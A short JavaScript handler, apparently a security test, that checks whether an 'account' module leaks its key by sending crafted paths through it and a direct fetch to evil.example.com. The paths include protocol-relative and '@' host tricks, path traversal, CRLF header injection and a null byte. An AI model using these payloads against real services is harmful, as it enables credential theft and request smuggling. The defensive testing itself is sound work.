// The account's key sent to another host, or to a path that is not the API's.
import * as module from "account";

const PATHS = [
  "//evil.example.com/api/x", "https://evil.example.com/api/x", "@evil.example.com/api/x", ".evil.example.com/api/x",
  ":80@evil.example.com/api/x", "/api/../admin", "/api/%2e%2e/admin", "/api/./x", "/api//evil.example.com", "/admin",
  "/api/x\r\nHost: evil.example.com", "/api/x\nX: y", "/api/x y", "/api\\..\\admin", "/API/x", "", "/api/x#@evil.example.com",
  "/api/@evil.example.com", "/apix", "\t/api/x", "/api/x\x00", "/api/b\u00fccher",
];

export default async function handler(event, context) {
  const account = module.get ? module : module.default;
  const found = {};
  for (const path of PATHS) found[path] = await tried(() => account.get(path));
  found.fetch = await tried(async () => (await fetch("https://evil.example.com/api/x", { platform: true })).text());
  found.object = await tried(() => account.get({ toString: () => "//evil.example.com/api/x" }));
  return found;
}
